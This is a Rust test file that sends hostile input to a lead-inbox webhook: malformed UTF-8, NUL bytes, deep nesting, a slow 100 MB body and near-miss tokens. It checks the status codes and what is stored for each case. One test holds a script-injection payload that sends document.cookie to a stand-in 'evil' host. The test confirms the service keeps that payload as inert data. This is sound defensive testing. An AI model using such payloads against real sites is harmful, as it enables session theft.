//! Hostile input over HTTP: each case with the status it gets and what is, or is not,
//! stored. Runs on the end-to-end backend (SQLite unless `LEAD_INBOX_TEST_BACKEND` says).

use std::time::{Duration, Instant};

use lead_inbox_domain::casayes::SPEC_EXAMPLE;
use lead_inbox_tests::{TestApp, WEBHOOK_TOKEN, example, spawn_app};
use serde_json::{Value, json};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};

async fn status_and_body(app: &TestApp, body: impl Into<reqwest::Body>) -> (u16, Value) {
    let response = app.deliver(Some(WEBHOOK_TOKEN), body).await;
    (
        response.status().as_u16(),
        response.json().await.unwrap_or(Value::Null),
    )
}

/// The stored lead, or `None` when the API answers `404` (any other answer fails).
async fn stored(app: &TestApp, reference: &str) -> Option<Value> {
    let (status, body) = app.api_get(&format!("/api/v1/leads/{reference}")).await;
    match status {
        200 => Some(body),
        404 => None,
        other => panic!("GET /api/v1/leads/{reference}: {other} {body}"),
    }
}

async fn quarantine_reasons(app: &TestApp) -> Vec<String> {
    let (_, page) = app.api_get("/api/v1/quarantine?limit=500").await;
    page["items"]
        .as_array()
        .map(|items| {
            items
                .iter()
                .map(|i| i["reason"].as_str().unwrap_or_default().to_owned())
                .collect()
        })
        .unwrap_or_default()
}

fn kinds(lead: &Value) -> Vec<(String, String)> {
    lead["anomalies"]
        .as_array()
        .map(|list| {
            list.iter()
                .map(|a| {
                    (
                        a["field"].as_str().unwrap_or_default().to_owned(),
                        a["kind"].as_str().unwrap_or_default().to_owned(),
                    )
                })
                .collect()
        })
        .unwrap_or_default()
}

#[tokio::test]
async fn invalid_utf8_is_refused_and_kept_byte_for_byte() {
    let Some(app) = spawn_app("invalid_utf8").await else {
        return;
    };
    let body = b"{\"LeadReference\": \"utf8-\xff\xfe\"}".to_vec();
    let (status, error) = status_and_body(&app, body.clone()).await;
    assert_eq!((status, error["code"].as_str()), (400, Some("not_json")));
    let (_, page) = app.api_get("/api/v1/quarantine").await;
    use base64::Engine;
    let kept = base64::engine::general_purpose::STANDARD
        .decode(page["items"][0]["rawBase64"].as_str().expect("base64"))
        .expect("valid");
    assert_eq!(kept, body);
    assert_eq!(
        page["items"][0]["rawText"],
        Value::Null,
        "not UTF-8, so no text form"
    );
}

#[tokio::test]
async fn control_characters_and_nul_are_stored_safely() {
    let Some(app) = spawn_app("control_characters").await else {
        return;
    };
    let mut body = example("ctl-1");
    body["Message"] = json!("bell\u{7} tab\t nul\u{0} esc\u{1b}[31m del\u{7f}");
    body["SenderName"] = json!("A\u{0}B");
    let (status, answer) = status_and_body(&app, body.to_string()).await;
    assert_eq!((status, answer["status"].as_str()), (200, Some("created")));
    let lead = stored(&app, "ctl-1").await.expect("stored");
    assert_eq!(
        lead["message"],
        "bell\u{7} tab\t nul\u{fffd} esc\u{1b}[31m del\u{7f}"
    );
    assert_eq!(lead["sender"]["name"], "A\u{fffd}B");
    assert!(kinds(&lead).contains(&("Message".into(), "nul_replaced".into())));
    assert_eq!(
        lead["original"]["Message"], body["Message"],
        "the original keeps the NUL"
    );
    let (status, _) = status_and_body(
        &app,
        json!({"LeadReference": "ref\u{0}with-nul"}).to_string(),
    )
    .await;
    assert_eq!(
        status, 400,
        "a reference with control characters is not usable"
    );
}

#[tokio::test]
async fn html_and_script_are_data_not_markup() {
    let Some(app) = spawn_app("html").await else {
        return;
    };
    let script = "<script>fetch('//evil/'+document.cookie)</script><b onmouseover=alert(1)>x</b>";
    let mut body = example("html-1");
    body["Message"] = json!(script);
    body["SenderName"] = json!(script);
    assert_eq!(status_and_body(&app, body.to_string()).await.0, 200);
    let response = app
        .client
        .get(app.url("/api/v1/leads/html-1"))
        .bearer_auth(lead_inbox_tests::API_KEY)
        .send()
        .await
        .expect("answer");
    let content_type = response
        .headers()
        .get("content-type")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_owned();
    assert!(
        content_type.starts_with("application/json"),
        "{content_type}"
    );
    let lead: Value = response.json().await.expect("JSON");
    assert_eq!(lead["message"], script);
}

#[tokio::test]
async fn numbers_beyond_i64_are_anomalies_not_refusals() {
    let Some(app) = spawn_app("big_numbers").await else {
        return;
    };
    let body = SPEC_EXAMPLE
        .replace(
            "\"MonthlyIncome\": 2000",
            "\"MonthlyIncome\": 123456789012345678901234567890",
        )
        .replace(
            "\"NumberResidents\": 2",
            "\"NumberResidents\": -99999999999999999999",
        )
        .replace(
            "b24e6f80-17c9-4a8f-92b3-7e123d4bcf90",
            "b24e6f80-17c9-4a8f-92b3-7e123d4bcf99",
        );
    let (status, answer) = status_and_body(&app, body).await;
    assert_eq!(status, 200, "{answer}");
    let lead = stored(&app, answer["leadReference"].as_str().expect("reference"))
        .await
        .expect("stored");
    assert_eq!(lead["profile"]["monthlyIncome"], Value::Null);
    assert_eq!(lead["profile"]["numberResidents"], Value::Null);
    assert!(kinds(&lead).contains(&("MonthlyIncome".into(), "out_of_range".into())));
    // Past the range of a double, the body is no JSON we can read: kept, not lost.
    let body = r#"{"LeadReference": "huge-1", "MonthlyIncome": 1e400}"#;
    let (status, error) = status_and_body(&app, body).await;
    assert_eq!((status, error["code"].as_str()), (400, Some("not_json")));
    assert_eq!(quarantine_reasons(&app).await, ["not_json"]);
}

#[tokio::test]
async fn duplicated_json_keys() {
    let Some(app) = spawn_app("duplicated_keys").await else {
        return;
    };
    let body = r#"{"LeadReference": "dup-1", "SenderName": "First", "SenderName": "Second"}"#;
    let (status, _) = status_and_body(&app, body).await;
    assert_eq!(status, 200);
    let lead = stored(&app, "dup-1").await.expect("stored");
    assert_eq!(lead["sender"]["name"], "Second");
    assert!(kinds(&lead).contains(&("SenderName".into(), "duplicate_key".into())));
    let ambiguous = r#"{"LeadReference": "dup-2", "LeadReference": "dup-3"}"#;
    let (status, error) = status_and_body(&app, ambiguous).await;
    assert_eq!(
        (status, error["code"].as_str()),
        (400, Some("lead_reference_invalid"))
    );
    assert!(stored(&app, "dup-2").await.is_none() && stored(&app, "dup-3").await.is_none());
    assert_eq!(quarantine_reasons(&app).await, ["lead_reference_invalid"]);
}

#[tokio::test]
async fn ten_thousand_levels_of_nesting_are_refused_without_harm() {
    let Some(app) = spawn_app("nesting").await else {
        return;
    };
    let nested = format!(
        r#"{{"LeadReference": "deep-1", "Message": {}"x"{}}}"#,
        "[".repeat(10_000),
        "]".repeat(10_000)
    );
    let (status, error) = status_and_body(&app, nested).await;
    assert_eq!((status, error["code"].as_str()), (400, Some("not_json")));
    let array = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
    let (status, error) = status_and_body(&app, array).await;
    assert_eq!(
        (status, error["code"].as_str()),
        (400, Some("not_an_object"))
    );
    assert_eq!(
        quarantine_reasons(&app).await,
        ["not_an_object", "not_json"]
    );
    let live = app
        .client
        .get(app.url("/health/live"))
        .send()
        .await
        .expect("still serving");
    assert_eq!(live.status().as_u16(), 200);
}

#[tokio::test]
async fn a_100_mb_body_sent_slowly_is_refused_after_the_limit_not_read_whole() {
    let Some(app) = spawn_app("hundred_megabytes").await else {
        return;
    };
    const TOTAL: usize = 100 * 1024 * 1024;
    let mut stream = TcpStream::connect(app.address).await.expect("connect");
    let head = format!(
        "POST /webhooks/casayes/leads HTTP/1.1\r\nHost: x\r\ntoken: {WEBHOOK_TOKEN}\r\nContent-Type: application/json\r\nContent-Length: {TOTAL}\r\n\r\n{{\"LeadReference\": \"big-1\", \"Message\": \""
    );
    stream.write_all(head.as_bytes()).await.expect("write");
    let (mut reader, mut writer) = stream.into_split();
    let started = Instant::now();
    let sender = tokio::spawn(async move {
        let chunk = vec![b'a'; 64 * 1024];
        let mut sent = 0usize;
        while sent < TOTAL {
            if writer.write_all(&chunk).await.is_err() {
                break;
            }
            sent += chunk.len();
            tokio::time::sleep(Duration::from_millis(2)).await;
        }
        sent
    });
    let mut answer = Vec::new();
    let mut buffer = [0u8; 4096];
    while !String::from_utf8_lossy(&answer).contains("payload_too_large") {
        match tokio::time::timeout(Duration::from_secs(20), reader.read(&mut buffer)).await {
            Ok(Ok(0)) | Ok(Err(_)) | Err(_) => break,
            Ok(Ok(n)) => answer.extend_from_slice(&buffer[..n]),
        }
    }
    let answered_after = started.elapsed();
    sender.abort();
    let answer = String::from_utf8_lossy(&answer);
    assert!(answer.starts_with("HTTP/1.1 413"), "{answer}");
    assert!(
        answered_after < Duration::from_secs(10),
        "answered once the limit was passed: {answered_after:?}"
    );
    assert_eq!(quarantine_reasons(&app).await, ["payload_too_large"]);
    let (_, page) = app.api_get("/api/v1/quarantine").await;
    assert_eq!(
        page["items"][0]["rawText"].as_str().map(str::len),
        Some(256 * 1024),
        "only the first 256 KiB are kept"
    );
}

#[tokio::test]
async fn tokens_that_are_almost_right_are_refused() {
    let Some(app) = spawn_app("almost_right_tokens").await else {
        return;
    };
    let body = example("tok-1").to_string();
    for (n, token) in [
        format!("{WEBHOOK_TOKEN}x"),
        WEBHOOK_TOKEN[..WEBHOOK_TOKEN.len() - 1].to_owned(),
        WEBHOOK_TOKEN.to_uppercase(),
        format!("Bearer {WEBHOOK_TOKEN}"),
    ]
    .into_iter()
    .enumerate()
    {
        let response = app.deliver(Some(&token), body.clone()).await;
        assert_eq!(response.status().as_u16(), 401, "case {n}");
    }
    // Sent twice, even with the right value once: ambiguous, refused.
    let twice = app
        .client
        .post(app.url("/webhooks/casayes/leads"))
        .header("token", WEBHOOK_TOKEN)
        .header("token", "other")
        .body(body.clone())
        .send()
        .await
        .expect("answer");
    assert_eq!(twice.status().as_u16(), 401);
    let twice_same = app
        .client
        .post(app.url("/webhooks/casayes/leads"))
        .header("token", WEBHOOK_TOKEN)
        .header("token", WEBHOOK_TOKEN)
        .body(body.clone())
        .send()
        .await
        .expect("answer");
    assert_eq!(twice_same.status().as_u16(), 401);
    // In the query string instead of the header.
    let query = app
        .client
        .post(app.url(&format!("/webhooks/casayes/leads?token={WEBHOOK_TOKEN}")))
        .body(body.clone())
        .send()
        .await
        .expect("answer");
    assert_eq!(query.status().as_u16(), 401);
    assert!(stored(&app, "tok-1").await.is_none());
    // A trailing space is optional white space around a header value (RFC 9110 §5.5):
    // HTTP strips it, so the token is the configured one.
    let mut stream = TcpStream::connect(app.address).await.expect("connect");
    let request = format!(
        "POST /webhooks/casayes/leads HTTP/1.1\r\nHost: x\r\ntoken: {WEBHOOK_TOKEN} \r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    stream.write_all(request.as_bytes()).await.expect("write");
    let mut answer = String::new();
    let _ = tokio::time::timeout(Duration::from_secs(5), stream.read_to_string(&mut answer)).await;
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    assert!(stored(&app, "tok-1").await.is_some());
}
